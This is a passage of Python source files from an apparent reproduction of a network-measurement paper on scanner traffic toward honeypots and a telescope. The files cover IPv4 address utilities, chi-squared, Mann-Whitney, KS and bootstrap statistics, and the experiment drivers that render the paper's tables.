    >>> int_to_ip(167772161)
    '10.0.0.1'
    """
    if not 0 <= value <= MAX_IPV4:
        raise ValueError(f"address out of range: {value}")
    return f"{(value >> 24) & 0xFF}.{(value >> 16) & 0xFF}.{(value >> 8) & 0xFF}.{value & 0xFF}"


def octets_of(value: int) -> tuple[int, int, int, int]:
    """Return the four octets of an integer address, most significant first."""
    return (
        (value >> 24) & 0xFF,
        (value >> 16) & 0xFF,
        (value >> 8) & 0xFF,
        value & 0xFF,
    )


def has_255_octet(value: int) -> bool:
    """True if *any* octet of the address equals 255.

    Scanners in the paper's telescope avoid such addresses on ports like
    7574/Oracle (61x less likely) and 445/SMB (9x less likely), apparently
    from broadcast-address filters that fail to check octet position.
    """
    return any(octet == 255 for octet in octets_of(value))


def ends_in_255(value: int) -> bool:
    """True if the last octet is 255 (a likely /24 broadcast address)."""
    return (value & 0xFF) == 255


def is_first_of_slash16(value: int) -> bool:
    """True for ``x.y.0.0`` addresses — Mirai's preferred first target."""
    return (value & 0xFFFF) == 0


def is_first_of_slash24(value: int) -> bool:
    """True for ``x.y.z.0`` addresses."""
    return (value & 0xFF) == 0


def vector_has_255_octet(values: np.ndarray) -> np.ndarray:
    """Vectorized :func:`has_255_octet` over an array of integer addresses."""
    values = np.asarray(values, dtype=np.uint32)
    return (
        ((values >> 24) & 0xFF) == 255
    ) | (
        ((values >> 16) & 0xFF) == 255
    ) | (
        ((values >> 8) & 0xFF) == 255
    ) | (
        (values & 0xFF) == 255
    )


def vector_ends_in_255(values: np.ndarray) -> np.ndarray:
    """Vectorized :func:`ends_in_255`."""
    values = np.asarray(values, dtype=np.uint32)
    return (values & 0xFF) == 255


def vector_is_first_of_slash16(values: np.ndarray) -> np.ndarray:
    """Vectorized :func:`is_first_of_slash16`."""
    values = np.asarray(values, dtype=np.uint32)
    return (values & 0xFFFF) == 0


def rolling_average(series: np.ndarray, window: int = 512) -> np.ndarray:
    """Rolling mean used by the paper's Figure 1 to smooth per-IP counts.

    The paper computes "a rolling average of the # of scanning IPs across
    every consecutive 512 IPs".  The output has the same length as the
    input; edges use the partial window.
    """
    if window <= 0:
        raise ValueError("window must be positive")
    series = np.asarray(series, dtype=np.float64)
    if series.size == 0:
        return series
    cumulative = np.cumsum(np.concatenate(([0.0], series)))
    totals = cumulative[window:] - cumulative[:-window]
    full = totals / window
    # Pad the leading edge with growing partial windows so indices align.
    head_counts = np.arange(1, min(window, series.size) + 1, dtype=np.float64)
    head = cumulative[1 : head_counts.size + 1] / head_counts
    if full.size == 0:
        return head
    return np.concatenate((head[: window - 1], full))


@dataclass(frozen=True, order=True)
class IPv4Address:
    """A single IPv4 address with octet-level accessors.

    >>> addr = IPv4Address.parse("192.0.2.255")
    >>> addr.ends_in_255
    True
    >>> str(addr)
    '192.0.2.255'
    """

    value: int

    def __post_init__(self) -> None:
        if not 0 <= self.value <= MAX_IPV4:
            raise ValueError(f"address out of range: {self.value}")

    @classmethod
    def parse(cls, dotted: str) -> "IPv4Address":
        return cls(ip_to_int(dotted))

    @property
    def octets(self) -> tuple[int, int, int, int]:
        return octets_of(self.value)

    @property
    def has_255_octet(self) -> bool:
        return has_255_octet(self.value)

    @property
    def ends_in_255(self) -> bool:
        return ends_in_255(self.value)

    @property
    def is_first_of_slash16(self) -> bool:
        return is_first_of_slash16(self.value)

    def __str__(self) -> str:
        return int_to_ip(self.value)

    def __int__(self) -> int:
        return self.value


@dataclass(frozen=True)
class Prefix:
    """A CIDR prefix (network address + mask length).

    >>> net = Prefix.parse("198.51.100.0/26")
    >>> net.num_addresses
    64
    >>> ip_to_int("198.51.100.63") in net
    True
    >>> ip_to_int("198.51.100.64") in net
    False
    """

    network: int
    length: int

    def __post_init__(self) -> None:
        if not 0 <= self.length <= 32:
            raise ValueError(f"invalid prefix length: {self.length}")
        if self.network & ~self.mask:
            raise ValueError(
                f"network {int_to_ip(self.network)} has host bits set for /{self.length}"
            )

    @classmethod
    def parse(cls, cidr: str) -> "Prefix":
        base, _, length_text = cidr.partition("/")
        if not length_text:
            raise ValueError(f"missing prefix length: {cidr!r}")
        return cls(ip_to_int(base), int(length_text))

    @property
    def mask(self) -> int:
        if self.length == 0:
            return 0
        return (MAX_IPV4 << (32 - self.length)) & MAX_IPV4

    @property
    def num_addresses(self) -> int:
        return 1 << (32 - self.length)

    @property
    def first(self) -> int:
        return self.network

    @property
    def last(self) -> int:
        return self.network | (~self.mask & MAX_IPV4)

    def __contains__(self, address: int) -> bool:
        return (int(address) & self.mask) == self.network

    def __iter__(self) -> Iterator[int]:
        return iter(range(self.first, self.last + 1))

    def __len__(self) -> int:
        return self.num_addresses

    def addresses(self) -> np.ndarray:
        """All member addresses as a numpy array (use with care on short prefixes)."""
        return np.arange(self.first, self.last + 1, dtype=np.uint32)

    def subnets(self, new_length: int) -> Iterator["Prefix"]:
        """Iterate subnets of this prefix at ``new_length``."""
        if new_length < self.length or new_length > 32:
            raise ValueError(f"cannot split /{self.length} into /{new_length}")
        step = 1 << (32 - new_length)
        for network in range(self.first, self.last + 1, step):
            yield Prefix(network, new_length)

    def __str__(self) -> str:
        return f"{int_to_ip(self.network)}/{self.length}"


def summarize_structures(addresses: Iterable[int]) -> dict[str, int]:
    """Count the structural classes present in an address collection.

    Used by tests and the Figure 1 analysis to sanity-check structure mixes.
    """
    counts = {"total": 0, "has_255_octet": 0, "ends_in_255": 0, "first_of_slash16": 0}
    for value in addresses:
        counts["total"] += 1
        if has_255_octet(value):
            counts["has_255_octet"] += 1
        if ends_in_255(value):
            counts["ends_in_255"] += 1
        if is_first_of_slash16(value):
            counts["first_of_slash16"] += 1
    return counts
