"""Chi-squared contingency testing with Cramér's V effect sizes.

Implements the comparison machinery of Section 3.3:

* contingency tables over the *union of per-vantage top-k categories*
  (never the long tail, which would flood the test with near-zero
  expected frequencies);
* the non-parametric chi-squared test with zero-margin guards;
* Cramér's V (the paper's φ) with a magnitude classification that is
  **degrees-of-freedom aware** — the paper stresses that identical φ
  values can be different effect magnitudes under different dof, which
  is exactly Cohen's w mapped through min(r−1, c−1).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Sequence

import numpy as np
from scipy import special as scipy_special

__all__ = ["EffectMagnitude", "ChiSquareResult", "chi_square_test", "cramers_v_magnitude"]


class EffectMagnitude(str, enum.Enum):
    """Relative effect-size magnitude (the paper's blue/yellow/red)."""

    NONE = "none"
    SMALL = "small"
    MEDIUM = "medium"
    LARGE = "large"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: Cohen's conventional w thresholds for small/medium/large effects.
_COHEN_W_SMALL = 0.1
_COHEN_W_MEDIUM = 0.3
_COHEN_W_LARGE = 0.5


def cramers_v_magnitude(phi: float, df_min: int) -> EffectMagnitude:
    """Classify a Cramér's V value given min(r−1, c−1).

    Cohen's w = φ·sqrt(df_min); the same φ therefore crosses the
    small/medium/large thresholds at lower values when dof is larger.
    """
    if df_min < 1:
        return EffectMagnitude.NONE
    w = phi * np.sqrt(df_min)
    if w >= _COHEN_W_LARGE:
        return EffectMagnitude.LARGE
    if w >= _COHEN_W_MEDIUM:
        return EffectMagnitude.MEDIUM
    if w >= _COHEN_W_SMALL:
        return EffectMagnitude.SMALL
    return EffectMagnitude.NONE


@dataclass(frozen=True)
class ChiSquareResult:
    """Outcome of one chi-squared comparison.

    ``p_value`` is uncorrected; callers apply Bonferroni by comparing
    against ``alpha / num_comparisons`` via :meth:`significant`.
    ``phi`` is Cramér's V; ``valid`` is False when the table was too
    degenerate to test (a single row/column or an empty table), in which
    case no significance claim can be made.
    """

    statistic: float
    p_value: float
    dof: int
    phi: float
    df_min: int
    sample_size: int
    valid: bool = True

    @property
    def magnitude(self) -> EffectMagnitude:
        return cramers_v_magnitude(self.phi, self.df_min)

    def significant(self, alpha: float = 0.05, num_comparisons: int = 1) -> bool:
        """Bonferroni-corrected significance decision."""
        if not self.valid:
            return False
        if num_comparisons < 1:
            raise ValueError("num_comparisons must be >= 1")
        return self.p_value < alpha / num_comparisons


#: Result returned for untestable tables.
_INVALID = ChiSquareResult(
    statistic=0.0, p_value=1.0, dof=0, phi=0.0, df_min=0, sample_size=0, valid=False
)


def _trim_zero_margins(table: np.ndarray) -> np.ndarray:
    """Drop all-zero rows and columns (zero expected frequencies)."""
    table = table[table.sum(axis=1) > 0][:, table.sum(axis=0) > 0]
    return table


def _chi2_contingency(observed: np.ndarray) -> tuple[float, float, int]:
    """``scipy.stats.chi2_contingency`` (default Yates correction),
    reimplemented with plain numpy in the same operation order so results
    are bit-identical, minus scipy's ~1 ms/call dispatch overhead — the
    analyses run thousands of these tests per table.  ``observed`` must
    be float64 with no zero margins (the caller trims)."""
    rowsums = observed.sum(axis=1, keepdims=True)
    colsums = observed.sum(axis=0, keepdims=True)
    expected = rowsums * colsums / observed.sum() ** (observed.ndim - 1)
    dof = expected.size - sum(expected.shape) + observed.ndim - 1
    if dof == 0:
        return 0.0, 1.0, dof
    if dof == 1:
        # Yates' continuity correction, magnitude capped at the
        # observed-expected difference (scipy gh-13875).
        diff = expected - observed
        direction = np.sign(diff)
        magnitude = np.minimum(0.5, np.abs(diff))
        observed = observed + magnitude * direction
    terms = (observed - expected) ** 2 / expected
    statistic = terms.sum()
    p_value = scipy_special.chdtrc(dof, statistic)
    return float(statistic), float(p_value), dof


def chi_square_test(table: Sequence[Sequence[float]] | np.ndarray) -> ChiSquareResult:
    """Chi-squared test of independence on a contingency table.

    Rows are vantage points (or groups), columns are categories.  Returns
    an invalid result rather than raising when the table degenerates —
    the analyses interpret that as "cannot claim a difference".
    """
    array = np.asarray(table, dtype=np.float64)
    if array.ndim != 2:
        raise ValueError("contingency table must be 2-dimensional")
    array = _trim_zero_margins(array)
    rows, cols = array.shape if array.ndim == 2 else (0, 0)
    if rows < 2 or cols < 2:
        return _INVALID
    total = float(array.sum())
    if total <= 0:
        return _INVALID

    statistic, p_value, dof = _chi2_contingency(array)
    df_min = min(rows - 1, cols - 1)
    phi = float(np.sqrt(statistic / (total * df_min))) if df_min > 0 else 0.0
    return ChiSquareResult(
        statistic=float(statistic),
        p_value=float(p_value),
        dof=int(dof),
        phi=min(phi, 1.0),
        df_min=df_min,
        sample_size=int(round(total)),
    )
