"""Top-k category selection and union tables (paper Section 3.3).

"We always choose the most popular 3 values for each characteristic
(e.g., top 3 payloads, top 3 scanning ASes) for each vantage point and
perform the chi-squared test on the union of all unique top 3
characteristics across vantage points."
"""

from __future__ import annotations

from collections import Counter
from typing import Hashable, Mapping, Sequence

import numpy as np

__all__ = ["top_k", "top_k_union", "union_table", "median_counter"]


def top_k(counts: Mapping[Hashable, float] | Counter, k: int = 3) -> list[Hashable]:
    """The k most common categories, ties broken deterministically.

    Ties are resolved by category representation so results do not depend
    on dict insertion order (which would make analyses seed-fragile).
    """
    if k < 1:
        raise ValueError("k must be >= 1")
    ordered = sorted(counts.items(), key=lambda item: (-item[1], repr(item[0])))
    return [category for category, count in ordered[:k] if count > 0]


def top_k_union(
    group_counts: Mapping[Hashable, Mapping[Hashable, float]], k: int = 3
) -> list[Hashable]:
    """Union of each group's top-k categories, deterministically ordered."""
    union: set[Hashable] = set()
    for counts in group_counts.values():
        union.update(top_k(counts, k))
    return sorted(union, key=repr)


def union_table(
    group_counts: Mapping[Hashable, Mapping[Hashable, float]], k: int = 3
) -> tuple[np.ndarray, list[Hashable], list[Hashable]]:
    """Build the Section 3.3 contingency table.

    Rows are groups (vantage points), columns are the union of per-group
    top-k categories; cells are each group's counts *restricted to those
    categories* (the long tail is excluded, not pooled).

    Returns ``(table, group_order, category_order)``.
    """
    categories = top_k_union(group_counts, k)
    groups = sorted(group_counts, key=repr)
    table = np.zeros((len(groups), len(categories)), dtype=np.float64)
    for row, group in enumerate(groups):
        counts = group_counts[group]
        for col, category in enumerate(categories):
            table[row, col] = float(counts.get(category, 0))
    return table, groups, categories


def median_counter(counters: Sequence[Mapping[Hashable, float]]) -> Counter:
    """Per-category median count across a group of honeypots.

    Section 4.4: regional comparisons "compar[e] the median expected
    values (e.g., the median number of packets sent by an AS within a
    group of honeypots) across groups" to suppress single-target attacker
    latching.  Categories absent from a honeypot count as zero there.
    """
    if not counters:
        return Counter()
    categories: set[Hashable] = set()
    for counts in counters:
        categories.update(counts)
    result: Counter = Counter()
    for category in categories:
        values = [float(counts.get(category, 0)) for counts in counters]
        median = float(np.median(values))
        if median > 0:
            result[category] = median
    return result
