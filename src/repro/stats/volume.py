"""Traffic-volume statistics for the search-engine leak experiment.

Section 4.3 uses two tests on hourly traffic volumes:

* a **one-sided Mann–Whitney U** test of whether the per-hour volume
  toward leaked services is stochastically greater than toward the
  control group (Table 3 bold entries);
* a **Kolmogorov–Smirnov** test of whether the hourly-volume
  distributions differ at all — upon manual verification the paper
  attributes these differences to *spikes* of traffic (Table 3
  asterisks).

This module provides both, plus hourly binning and a spike detector used
by the analyses and by validation tests.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence

import numpy as np
from scipy import stats as scipy_stats

__all__ = [
    "hourly_volumes",
    "VolumeComparison",
    "mann_whitney_greater",
    "kolmogorov_smirnov",
    "compare_volumes",
    "count_spikes",
    "fold_increase",
]


def hourly_volumes(timestamps: Iterable[float], hours: int) -> np.ndarray:
    """Bin event timestamps (fractional hours) into per-hour counts."""
    if hours <= 0:
        raise ValueError("hours must be positive")
    if isinstance(timestamps, np.ndarray):
        array = timestamps.astype(np.float64, copy=False)
    else:
        array = np.fromiter((float(t) for t in timestamps), dtype=np.float64)
    counts, _edges = np.histogram(array, bins=hours, range=(0.0, float(hours)))
    return counts.astype(np.float64)


@dataclass(frozen=True)
class VolumeComparison:
    """Joint result of the Table 3 tests for one leaked/control pair."""

    fold: float
    mwu_p: float
    ks_p: float

    def stochastically_greater(self, alpha: float = 0.05) -> bool:
        """Bold marker: leaked volume stochastically exceeds control."""
        return self.mwu_p < alpha

    def distribution_differs(self, alpha: float = 0.05) -> bool:
        """Asterisk marker: hourly distributions differ (spikes)."""
        return self.ks_p < alpha


def mann_whitney_greater(leaked: Sequence[float], control: Sequence[float]) -> float:
    """One-sided MWU p-value: is ``leaked`` stochastically greater?"""
    leaked = np.asarray(leaked, dtype=np.float64)
    control = np.asarray(control, dtype=np.float64)
    if leaked.size == 0 or control.size == 0:
        return 1.0
    if np.all(leaked == leaked[0]) and np.all(control == leaked[0]):
        return 1.0  # identical constant samples: no evidence either way
    result = scipy_stats.mannwhitneyu(leaked, control, alternative="greater")
    return float(result.pvalue)


def kolmogorov_smirnov(leaked: Sequence[float], control: Sequence[float]) -> float:
    """Two-sample KS p-value on hourly-volume distributions."""
    leaked = np.asarray(leaked, dtype=np.float64)
    control = np.asarray(control, dtype=np.float64)
    if leaked.size == 0 or control.size == 0:
        return 1.0
    result = scipy_stats.ks_2samp(leaked, control)
    return float(result.pvalue)


def fold_increase(leaked: Sequence[float], control: Sequence[float]) -> float:
    """Mean traffic-per-hour ratio, the headline number of Table 3.

    A zero-traffic control yields ``inf`` when the leaked side saw any
    traffic at all, and 1.0 when neither side did.
    """
    leaked_mean = float(np.mean(leaked)) if len(leaked) else 0.0
    control_mean = float(np.mean(control)) if len(control) else 0.0
    if control_mean == 0.0:
        return float("inf") if leaked_mean > 0 else 1.0
    return leaked_mean / control_mean


def compare_volumes(leaked: Sequence[float], control: Sequence[float]) -> VolumeComparison:
    """Run all three Table 3 measures on a pair of hourly series."""
    return VolumeComparison(
        fold=fold_increase(leaked, control),
        mwu_p=mann_whitney_greater(leaked, control),
        ks_p=kolmogorov_smirnov(leaked, control),
    )


def count_spikes(hourly: Sequence[float], threshold_sigmas: float = 3.0) -> int:
    """Count hours whose volume exceeds mean + k·std.

    The paper observes that leaked services attract more *spikes* —
    brief bursts right after an attacker finds the service in a search
    engine.  A flat series (std = 0) has no spikes by definition.
    """
    array = np.asarray(hourly, dtype=np.float64)
    if array.size == 0:
        return 0
    std = float(array.std())
    if std == 0.0:
        return 0
    cutoff = float(array.mean()) + threshold_sigmas * std
    return int(np.count_nonzero(array > cutoff))
