"""High-level vantage-point comparisons.

Glue between the raw counters the analyses build and the statistical
primitives: top-3-union chi-squared comparisons of categorical traffic
characteristics, and two-proportion comparisons for malicious-traffic
fractions.
"""

from __future__ import annotations

from typing import Hashable, Mapping

import numpy as np

from repro.stats.contingency import ChiSquareResult, chi_square_test
from repro.stats.topk import union_table

__all__ = ["compare_top_k", "compare_fractions", "bonferroni_alpha"]


def bonferroni_alpha(alpha: float, num_comparisons: int) -> float:
    """The per-test threshold after Bonferroni correction."""
    if num_comparisons < 1:
        raise ValueError("num_comparisons must be >= 1")
    return alpha / num_comparisons


def compare_top_k(
    group_counts: Mapping[Hashable, Mapping[Hashable, float]], k: int = 3
) -> ChiSquareResult:
    """Section 3.3 comparison of a categorical characteristic.

    ``group_counts`` maps each vantage point (or group) to its category
    counter (ASes, usernames, passwords, or payloads).  The test runs on
    the union of per-group top-k categories.
    """
    table, _groups, _categories = union_table(group_counts, k)
    return chi_square_test(table)


def compare_fractions(
    group_fractions: Mapping[Hashable, tuple[float, float]]
) -> ChiSquareResult:
    """Compare malicious-traffic fractions across groups.

    ``group_fractions`` maps each group to ``(malicious_count,
    total_count)``; the chi-squared test runs on the 2-column
    (malicious, non-malicious) table.
    """
    groups = sorted(group_fractions, key=repr)
    table = np.zeros((len(groups), 2), dtype=np.float64)
    for row, group in enumerate(groups):
        malicious, total = group_fractions[group]
        if malicious < 0 or total < malicious:
            raise ValueError(f"invalid (malicious, total) for group {group!r}")
        table[row, 0] = malicious
        table[row, 1] = total - malicious
    return chi_square_test(table)
