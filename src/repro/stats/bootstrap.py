"""Bootstrap confidence intervals for overlap estimates.

The paper's Table 8/9 overlap percentages are point estimates over finite
scanner populations; at reproduction scale the populations are smaller,
so interval estimates matter when comparing against the paper's numbers.
This module resamples *source IPs* (the sampling unit) with replacement
and reports percentile intervals.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Optional

import numpy as np

from repro.sim.rng import analysis_rng

__all__ = ["BootstrapCI", "bootstrap_proportion", "overlap_ci"]


@dataclass(frozen=True)
class BootstrapCI:
    """A point estimate with a percentile bootstrap interval."""

    estimate: float
    low: float
    high: float
    confidence: float
    resamples: int

    def contains(self, value: float) -> bool:
        return self.low <= value <= self.high

    def __str__(self) -> str:
        return f"{self.estimate:.1f}% [{self.low:.1f}, {self.high:.1f}]"


def bootstrap_proportion(
    flags: Iterable[bool],
    confidence: float = 0.95,
    resamples: int = 2000,
    rng: Optional[np.random.Generator] = None,
) -> BootstrapCI:
    """CI for a proportion of boolean per-unit outcomes.

    ``flags[i]`` says whether unit *i* (a source IP) satisfies the
    property (e.g. "also seen at the telescope").  Returns percentages.
    """
    if not 0.0 < confidence < 1.0:
        raise ValueError("confidence must be in (0, 1)")
    array = np.fromiter((bool(flag) for flag in flags), dtype=bool)
    if array.size == 0:
        return BootstrapCI(0.0, 0.0, 0.0, confidence, resamples)
    rng = rng or analysis_rng("bootstrap-proportion")
    estimate = 100.0 * float(array.mean())
    samples = rng.choice(array, size=(resamples, array.size), replace=True)
    means = 100.0 * samples.mean(axis=1)
    tail = (1.0 - confidence) / 2.0
    low, high = np.quantile(means, [tail, 1.0 - tail])
    return BootstrapCI(estimate, float(low), float(high), confidence, resamples)


def overlap_ci(
    numerator_set: set[int],
    denominator_set: set[int],
    confidence: float = 0.95,
    resamples: int = 2000,
    rng: Optional[np.random.Generator] = None,
) -> BootstrapCI:
    """CI for |numerator ∩ denominator| / |denominator| (a Table 8 cell).

    Resamples the denominator's members (the observed scanner IPs).
    """
    members = sorted(denominator_set)
    flags = [member in numerator_set for member in members]
    return bootstrap_proportion(flags, confidence=confidence, resamples=resamples, rng=rng)
