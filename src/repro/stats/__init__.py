"""Statistical methodology of the paper's Section 3.3 and 4.3."""

from repro.stats.bootstrap import BootstrapCI, bootstrap_proportion, overlap_ci
from repro.stats.comparisons import bonferroni_alpha, compare_fractions, compare_top_k
from repro.stats.contingency import (
    ChiSquareResult,
    EffectMagnitude,
    chi_square_test,
    cramers_v_magnitude,
)
from repro.stats.topk import median_counter, top_k, top_k_union, union_table
from repro.stats.volume import (
    VolumeComparison,
    compare_volumes,
    count_spikes,
    fold_increase,
    hourly_volumes,
    kolmogorov_smirnov,
    mann_whitney_greater,
)

__all__ = [
    "BootstrapCI", "bootstrap_proportion", "overlap_ci",
    "bonferroni_alpha", "compare_fractions", "compare_top_k",
    "ChiSquareResult", "EffectMagnitude", "chi_square_test", "cramers_v_magnitude",
    "median_counter", "top_k", "top_k_union", "union_table",
    "VolumeComparison", "compare_volumes", "count_spikes", "fold_increase",
    "hourly_volumes", "kolmogorov_smirnov", "mann_whitney_greater",
]
