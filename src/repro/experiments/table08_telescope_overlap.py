"""Table 8: scanners that target clouds/EDUs avoid the telescope."""

from __future__ import annotations

from typing import Optional

from repro.analysis.overlap import scanner_overlap
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import pct_cell, render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    rows = scanner_overlap(context.dataset)
    text = render_table(
        ["Port", "|Tel∩Cloud|/|Cloud|", "|Tel∩EDU|/|EDU|", "|Cloud∩EDU|/|Cloud|",
         "|Cloud|", "|EDU|"],
        [
            (r.port, pct_cell(r.telescope_cloud_pct), pct_cell(r.telescope_edu_pct),
             pct_cell(r.cloud_edu_pct), r.cloud_size, r.edu_size)
            for r in rows
        ],
    )
    return ExperimentOutput("T8", "Scanner overlap with the telescope", text, rows)
