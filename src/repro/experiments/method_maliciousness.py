"""Section 3.2 methodology numbers: how much traffic is actually malicious."""

from __future__ import annotations

from typing import Optional

from repro.analysis.ports import methodology_numbers
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    numbers = methodology_numbers(context.dataset)
    text = render_table(
        ["Quantity", "Measured", "Paper"],
        [
            ("Telnet/23 traffic not attempting auth", f"{numbers.telnet_non_auth_pct:.0f}%", "34%"),
            ("SSH/22 traffic not attempting auth", f"{numbers.ssh_non_auth_pct:.0f}%", "24%"),
            ("HTTP/80 payloads without exploits", f"{numbers.http80_non_exploit_pct:.0f}%", "75%"),
            ("Distinct HTTP payloads malicious", f"{numbers.distinct_http_payloads_malicious_pct:.0f}%", "~6%"),
        ],
    )
    return ExperimentOutput("M1", "Section 3.2 maliciousness fractions", text, numbers)
