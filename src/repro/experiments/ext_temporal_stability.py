"""X3: temporal stability of the headline findings (Appendix C, quantified).

The paper eyeballs the 2020/2021/2022 repeats; this driver puts the
headline metrics for all three years side by side so stability (and the
documented year-specific anomalies) are visible in one table.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Optional

from repro.analysis.overlap import scanner_overlap
from repro.analysis.ports import methodology_numbers, protocol_breakdown
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext, get_context
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    base = context.config

    metrics: dict[int, dict[str, float]] = {}
    for year in (2020, 2021, 2022):
        year_context = (
            context if year == base.year else get_context(replace(base, year=year))
        )
        dataset = year_context.dataset
        overlap = {row.port: row for row in scanner_overlap(dataset, ports=(22, 23))}
        numbers = methodology_numbers(dataset)
        breakdown = {row.port: row for row in protocol_breakdown(dataset)}
        metrics[year] = {
            "ssh22 tel∩cloud": overlap[22].telescope_cloud_pct or 0.0,
            "telnet23 tel∩cloud": overlap[23].telescope_cloud_pct or 0.0,
            "~HTTP share port 80": breakdown[80].unexpected_pct,
            "telnet non-auth": numbers.telnet_non_auth_pct,
            "ssh non-auth": numbers.ssh_non_auth_pct,
            "http80 non-exploit": numbers.http80_non_exploit_pct,
        }

    names = list(next(iter(metrics.values())))
    rows = [
        tuple([name] + [f"{metrics[year][name]:.0f}%" for year in (2020, 2021, 2022)])
        for name in names
    ]
    text = render_table(["Metric", "2020", "2021", "2022"], rows)
    text += (
        "\nStable findings stay within a few points across years; the one "
        "intended drift is the unexpected-protocol share doubling by 2022 "
        "(Appendix C.4)."
    )
    return ExperimentOutput("X3", "Temporal stability of headline metrics", text, metrics)
