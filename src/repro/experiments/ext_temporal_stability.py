"""X3: temporal stability of the headline findings (Appendix C, quantified).

The paper eyeballs the 2020/2021/2022 repeats; this driver puts the
headline metrics for all three years side by side so stability (and the
documented year-specific anomalies) are visible in one table.

The off-base years (2020 and 2022 by default) are *not* re-simulated
serially in-process: each one is built through the sharded orchestrator
(:func:`repro.runner.orchestrate`) into a persistent content-addressed
run directory, so the spills checkpoint across invocations and the
merge is the lazy zero-copy path.  On top of that sits the scheduler's
value cache: once a year's headline metrics are computed against a
dataset digest they are served from disk without touching the shards at
all.  A cold X3 pays two orchestrated builds; every later X3 on the
same machine pays two ``run.json`` reads.
"""

from __future__ import annotations

import json
import os
import tempfile
from dataclasses import replace
from pathlib import Path
from typing import Optional

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.overlap import scanner_overlap
from repro.analysis.ports import methodology_numbers, protocol_breakdown
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import (
    _CACHE,
    ExperimentConfig,
    ExperimentContext,
    remember_context,
)
from repro.reporting.tables import render_table

#: Environment variable overriding where orchestrated year runs persist.
RUN_CACHE_ENV = "CLOUDWATCHING_RUN_CACHE"

#: Cache namespace for the per-year headline-metric records.
_METRICS_ID = "X3-metrics"


def _run_cache_dir(config: ExperimentConfig) -> Path:
    """Persistent per-configuration run directory for orchestrated years."""
    root = os.environ.get(RUN_CACHE_ENV) or (
        Path(tempfile.gettempdir()) / "cloudwatching-run-cache"
    )
    name = (
        f"y{config.year}-s{config.scale:g}"
        f"-t{config.telescope_slash24s}-seed{config.seed}"
    )
    return Path(root) / name


def _completed_run_digest(run_dir: Path, config: ExperimentConfig) -> Optional[str]:
    """Dataset digest of a prior full-coverage run, if one is on disk.

    Reads only ``run.json`` — no shard verification.  That is safe
    because the digest merely addresses the metrics cache: a stale or
    corrupted run directory yields a cache miss (or no digest), and the
    orchestrator's resume path re-verifies every shard manifest before
    trusting it.
    """
    try:
        with open(run_dir / "run.json", "r", encoding="utf-8") as handle:
            record = json.load(handle)
    except (OSError, ValueError):
        return None
    if record.get("format") != "cloudwatching-run/1":
        return None
    expected = {
        "year": config.year,
        "scale": config.scale,
        "telescope_slash24s": config.telescope_slash24s,
        "seed": config.seed,
    }
    if record.get("config") != expected or record.get("coverage") != 1.0:
        return None
    digest = record.get("dataset_digest")
    return digest if isinstance(digest, str) else None


def _headline_metrics(dataset: AnalysisDataset) -> dict[str, float]:
    """The six headline numbers X3 tracks across years."""
    overlap = {row.port: row for row in scanner_overlap(dataset, ports=(22, 23))}
    numbers = methodology_numbers(dataset)
    breakdown = {row.port: row for row in protocol_breakdown(dataset)}
    return {
        "ssh22 tel∩cloud": overlap[22].telescope_cloud_pct or 0.0,
        "telnet23 tel∩cloud": overlap[23].telescope_cloud_pct or 0.0,
        "~HTTP share port 80": breakdown[80].unexpected_pct,
        "telnet non-auth": numbers.telnet_non_auth_pct,
        "ssh non-auth": numbers.ssh_non_auth_pct,
        "http80 non-exploit": numbers.http80_non_exploit_pct,
    }


def _year_metrics(config: ExperimentConfig) -> dict[str, float]:
    """Headline metrics for one off-base year, orchestrated and cached.

    Resolution order: the in-process context memo, then the on-disk
    metrics cache keyed on a completed run's dataset digest, then an
    orchestrated (sharded, resumable) build whose result is stored back
    into both caches.
    """
    # Imported lazily: the runner package imports the experiments
    # package, so a module-level import here would be circular.
    from repro.runner.orchestrator import orchestrate
    from repro.runner.scheduler import cache_key, load_cached_value, store_cached_value

    memoized = _CACHE.get(config)
    if memoized is not None:
        return _headline_metrics(memoized.dataset)

    run_dir = _run_cache_dir(config)
    cache_dir = run_dir / "cache"
    digest = _completed_run_digest(run_dir, config)
    if digest is not None:
        cached = load_cached_value(cache_dir, _METRICS_ID, cache_key(digest, _METRICS_ID))
        if cached is not None:
            return cached

    run = orchestrate(config, workers="auto", out_dir=run_dir, resume=True, quiet=True)
    remember_context(run.context)
    metrics = _headline_metrics(run.context.dataset)
    store_cached_value(
        cache_dir, _METRICS_ID, cache_key(run.dataset_digest, _METRICS_ID), metrics
    )
    return metrics


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    base = context.config

    metrics: dict[int, dict[str, float]] = {}
    for year in (2020, 2021, 2022):
        if year == base.year:
            metrics[year] = _headline_metrics(context.dataset)
        else:
            metrics[year] = _year_metrics(replace(base, year=year))

    names = list(next(iter(metrics.values())))
    rows = [
        tuple([name] + [f"{metrics[year][name]:.0f}%" for year in (2020, 2021, 2022)])
        for name in names
    ]
    text = render_table(["Metric", "2020", "2021", "2022"], rows)
    text += (
        "\nStable findings stay within a few points across years; the one "
        "intended drift is the unexpected-protocol share doubling by 2022 "
        "(Appendix C.4)."
    )
    return ExperimentOutput("X3", "Temporal stability of headline metrics", text, metrics)
