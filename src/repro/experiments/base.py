"""Common experiment-driver scaffolding."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Optional

from repro.experiments.context import ExperimentConfig, ExperimentContext, get_context

__all__ = ["ExperimentOutput", "resolve_context"]


@dataclass
class ExperimentOutput:
    """The result of one experiment driver.

    ``data`` holds the structured result (rows/series) so tests and
    benchmarks can assert on it; ``text`` is the rendered table the
    driver prints, mirroring the paper's presentation.
    """

    experiment_id: str
    title: str
    text: str
    data: Any

    def render(self) -> str:
